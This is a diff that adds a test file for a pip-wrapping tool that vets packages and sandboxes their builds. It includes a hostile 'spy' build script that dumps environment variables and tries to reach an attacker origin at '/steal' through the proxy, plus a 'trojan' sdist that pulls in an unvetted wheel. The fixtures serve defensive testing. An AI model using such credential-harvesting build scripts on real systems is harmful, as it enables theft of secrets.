@@ -1,0 +1,243 @@
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { bin, type Sandbox, sandbox, startNode, startProcess, until } from '../helpers/awspip.ts';
+import { sdist, wheel } from '../helpers/distributions.ts';
+import { type Hostile, openHostile } from '../helpers/hostile.ts';
+import { startWorld, type World } from '../helpers/package-index.ts';
+
+let world: World;
+let user: Sandbox;
+let hostile: Hostile;
+let project: string;
+
+beforeAll(async () => {
+  world = await startWorld();
+  user = await sandbox(world.environment);
+  hostile = await openHostile(user.folder);
+  project = user.path('project');
+  world.publish('plain', '1.0', wheel({ name: 'plain', version: '1.0' }));
+  write('pyproject.toml', '[project]\nname = "own"\nversion = "1"\ndependencies = ["plain"]\n');
+});
+afterAll(async () => {
+  await hostile.close();
+  await user.remove();
+  await world.close();
+});
+
+function write(name: string, text: string): void {
+  mkdirSync(path.dirname(path.join(project, name)), { recursive: true });
+  writeFileSync(path.join(project, name), text);
+}
+
+/** A project with a backend of its own, so that building it needs nothing. */
+async function ownProject(name: string, requires: readonly string[] = []): Promise<void> {
+  const backend = [
+    'import zipfile, os',
+    'def get_requires_for_build_wheel(settings=None): return []',
+    'def build_wheel(directory, settings=None, metadata_directory=None):',
+    `    name = '${name}-1.0-py3-none-any.whl'`,
+    '    with zipfile.ZipFile(os.path.join(directory, name), "w") as archive:',
+    `        archive.writestr('${name}/__init__.py', '')`,
+    `        archive.writestr('${name}-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: ${name}\\nVersion: 1.0\\n${requires.map((text) => `Requires-Dist: ${text}\\n`).join('')}')`,
+    `        archive.writestr('${name}-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')`,
+    `        archive.writestr('${name}-1.0.dist-info/RECORD', '')`,
+    '    return name',
+  ].join('\n');
+  write(`${name}/backend.py`, backend);
+  write(
+    `${name}/pyproject.toml`,
+    `[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "${name}"\nversion = "1.0"\ndynamic = ["dependencies"]\n`,
+  );
+}
+
+const inProject = (argv: readonly string[], extra: Record<string, string> = {}) =>
+  startNode([bin, ...argv], { ...user.environment, ...extra }, project).ended;
+
+describe('what nobody means anything by is passed over', () => {
+  test('trusted hosts, and hosts past every proxy: the vetted release comes in, nobody else is asked', async () => {
+    write('pip.conf', '[global]\ntrusted-host = evil.example\n');
+    const ran = await inProject(['install', '--trusted-host', 'evil.example', '--target', 'harmless', 'plain'], {
+      PIP_CONFIG_FILE: path.join(project, 'pip.conf'),
+      NO_PROXY: '*',
+    });
+    expect(ran.exitCode, ran.stderr).toBe(0);
+    expect(existsSync(path.join(project, 'harmless', 'plain'))).toBe(true);
+    expect(hostile.requests).toEqual([]);
+  });
+
+  test('constraints and pre-releases in pip.conf are part of what is asked for', async () => {
+    for (const version of ['1.0', '2.0', '3.0rc1']) {
+      world.publish('bounded', version, wheel({ name: 'bounded', version }));
+    }
+    write('bounds.txt', 'bounded<2\n');
+    write('bounding.conf', '[install]\nconstraint = bounds.txt\n');
+    const bounding = { PIP_CONFIG_FILE: path.join(project, 'bounding.conf') };
+    const bounded = await inProject(['install', '--target', 'bounded', 'bounded'], bounding);
+    expect([bounded.exitCode, bounded.stdout]).toEqual([0, expect.stringContaining('bounded-1.0')]);
+    write('young.conf', '[install]\npre = true\n');
+    const young = { PIP_CONFIG_FILE: path.join(project, 'young.conf') };
+    const pre = await inProject(['install', '--target', 'pre', 'bounded>2'], young);
+    expect([pre.exitCode, pre.stdout]).toEqual([0, expect.stringContaining('bounded-3.0rc1')]);
+  });
+
+  test('own projects are open: `.`, `-e .` and what lies inside, with what they need vetted', async () => {
+    await ownProject('inside', ['plain']);
+    const ran = await inProject(['install', '--target', 'mine', './inside']);
+    expect(ran.exitCode, ran.stderr).toBe(0);
+    expect(existsSync(path.join(project, 'mine', 'plain'))).toBe(true);
+    const here = await startNode(
+      [bin, 'install', '--target', '../mine-too', '.'],
+      user.environment,
+      path.join(project, 'inside'),
+    ).ended;
+    expect(here.exitCode, here.stderr).toBe(0);
+  });
+
+  test('help is pip’s, with nothing to be reached meanwhile', async () => {
+    const { exitCode, stdout } = await inProject(['install', '--help', '-i', hostile.origin, 'evil']);
+    expect([exitCode, stdout]).toEqual([0, expect.stringContaining('--index-url')]);
+    expect(hostile.requests).toEqual([]);
+  });
+});
+
+test('a file that changes while a verdict is awaited is looked at again', async () => {
+  world.publish('awaited', '1.0', wheel({ name: 'awaited', version: '1.0' }));
+  write('changing.txt', 'awaited\n');
+  const release = world.holdBack('awaited');
+  const running = startNode([bin, 'download', '-r', 'changing.txt'], user.environment, project);
+  await until('the vetting', () => running.stderr().includes('asking for it') || undefined);
+  write('changing.txt', `awaited\n${hostile.files.wheel}\n`);
+  release();
+  const { exitCode, stderr } = await running.ended;
+  expect([exitCode, stderr]).toEqual([64, expect.stringContaining('changing.txt:2: ')]);
+});
+
+describe('what somebody opened comes in', () => {
+  test('a wheel from an opened folder, by path and by --find-links; from nowhere else', async () => {
+    const open = `--awspip-open=${hostile.files.folder}`;
+    const one = await inProject(['install', open, '--target', 'opened', hostile.files.wheel]);
+    expect(one.exitCode, one.stderr).toBe(0);
+    const links = ['--no-index', '--find-links', hostile.files.folder];
+    const two = await inProject(['install', open, '--target', 'linked', '--only-binary', ':all:', ...links, 'evil']);
+    expect(two.exitCode, two.stderr).toBe(0);
+    const elsewhere = await inProject(['install', open, '--target', 'no', hostile.files.project]);
+    expect(elsewhere.exitCode).toBe(64);
+  });
+
+  test('a slip in what is opened opens nothing', async () => {
+    const { exitCode, stderr } = await inProject(['install', '--awspip-open=wheels', 'plain']);
+    expect([exitCode, stderr]).toEqual([78, expect.stringContaining('`wheels`')]);
+  });
+});
+
+/** A build that tries its way out and writes down what it found. */
+const spy = (report: string, origin: string) => `
+import json, os, socket, urllib.parse, urllib.request
+def through(proxy, url):
+    try: return urllib.request.build_opener(urllib.request.ProxyHandler({'http': proxy})).open(url, timeout=5).status
+    except Exception as error: return getattr(error, 'code', str(error))
+def tunnel(proxy):
+    at = urllib.parse.urlsplit(proxy)
+    with socket.create_connection((at.hostname, at.port)) as s:
+        s.sendall(b'CONNECT ${origin.replace('http://', '')} HTTP/1.1\\r\\n\\r\\n')
+        return s.recv(100).decode()[9:12]
+proxy = os.environ.get('PIP_PROXY', '')
+found = {'environment': dict(os.environ), 'plain': through(proxy, '${origin}/steal'), 'tunnel': tunnel(proxy)}
+open(${JSON.stringify(report)}, 'w').write(json.dumps(found))
+`;
+
+test('a build finds no token, no AWS variable but those kept, and no way through the relay', async () => {
+  const report = user.path('spy.json');
+  const buildScript = spy(report, hostile.origin);
+  world.publish('spying', '1.0', await sdist({ name: 'spying', version: '1.0', buildScript }));
+  const secrets = {
+    AWS_SECRET_ACCESS_KEY: 's3cret',
+    AWS_PROFILE: 's3cret',
+    CODEARTIFACT_AUTH_TOKEN: 's3cret',
+    AWSPIP_GITHUB_TOKEN: 's3cret',
+    AWS_REGION: 'eu-west-1',
+    AWSPIP_KEEP_VARIABLES: 'AWS_REGION',
+  };
+  const held = await user.install(['--target', 'spied', 'spying'], secrets);
+  expect(held.exitCode).toBe(11); // its build reaches for the network
+  const approved = await user.run(['approve', 'spying==1.0', '--reason', 'to see what it can do']);
+  expect(approved.exitCode, approved.stderr).toBe(0);
+  const { exitCode, stderr, report: said } = await user.install(['--target', 'spied', 'spying'], secrets);
+  expect(exitCode, stderr).toBe(0);
+  const { environment, plain, tunnel } = JSON.parse(readFileSync(report, 'utf8'));
+  expect(environment.AWS_REGION).toBe('eu-west-1');
+  expect(JSON.stringify(environment)).not.toContain('s3cret');
+  expect(Object.keys(environment).filter((name) => /^AWS_|TOKEN/.test(name))).toEqual(['AWS_REGION']);
+  expect([plain, tunnel]).toEqual([403, '407']); // with pip's own password, and without
+  expect(said).toMatchObject({ deniedHosts: [hostile.origin.replace('http://', '')] });
+  expect(hostile.requests).toEqual([]);
+});
+
+describe('what landed is held against what was vetted', () => {
+  const mismatch = expect.stringMatching(
+    /evil-99\.0-py3-none-any\.whl \(evil 99\.0\) was installed, and it is a file of/,
+  );
+
+  test('a vetted sdist that brings a file along when it is built: an error that names the file, 10', async () => {
+    const trojan = await sdist({
+      name: 'trojan',
+      version: '1.0',
+      buildScript: `import builtins\nNEED = 'evil @ file://${hostile.files.wheel}'`,
+      files: { 'PKG-INFO': 'Metadata-Version: 2.2\nName: trojan\nVersion: 1.0\nDynamic: Requires-Dist\n\n' },
+      requires: [`evil @ file://${hostile.files.wheel}`],
+    });
+    world.publish('trojan', '1.0', trojan);
+    const { exitCode, stderr, report } = await user.install(['--target', 'trojan', 'trojan']);
+    expect([exitCode, stderr]).toEqual([10, mismatch]);
+    expect(report).toMatchObject({ reason: 'blocked', obstacles: [{ code: 'unvetted', name: 'evil' }] });
+  });
+
+  test('also when a variable says that this is no dry run', async () => {
+    const ran = await user.install(['--target', 'wet', 'trojan'], { PIP_DRY_RUN: 'false' });
+    expect([ran.exitCode, ran.stderr]).toEqual([10, mismatch]);
+  });
+
+  test('also when the user has pip write a report, which stays theirs', async () => {
+    const ran = await user.install(['--target', 'again', '--report', 'mine.json', 'trojan']);
+    expect([ran.exitCode, ran.stderr]).toEqual([10, mismatch]);
+    expect(JSON.parse(readFileSync(user.path('mine.json'), 'utf8')).install).toHaveLength(2);
+  });
+
+  test('a wheel kept from an unvetted build of the same name and version is not used', async () => {
+    const build = (word: string) => ({
+      name: 'kept',
+      version: '1.0',
+      files: { 'kept/__init__.py': `word = '${word}'\n` },
+    });
+    const [evil, good] = [await sdist(build('evil')), await sdist(build('good'))];
+    const other = await startWorld();
+    other.publish('kept', '1.0', evil);
+    const pip = [
+      '-m',
+      'pip',
+      'install',
+      '-q',
+      '--target',
+      user.path('before'),
+      '-i',
+      `${other.origin}/simple/`,
+      'kept',
+    ];
+    const before = await startProcess(
+      'python3',
+      pip,
+      { ...user.environment, PIP_CACHE_DIR: user.path('cache') },
+      project,
+    ).ended;
+    expect(before.exitCode, before.stderr).toBe(0);
+    await other.close();
+    world.publish('kept', '1.0', good);
+    for (const target of ['first', 'cached']) {
+      const ran = await user.install(['--target', target, 'kept'], { PIP_CACHE_DIR: user.path('cache') });
+      expect(ran.exitCode, ran.stderr).toBe(0);
+      expect(readFileSync(user.path(target, 'kept', '__init__.py'), 'utf8')).toContain('good');
+    }
+    rmSync(user.path('cache'), { recursive: true });
+  });
+});
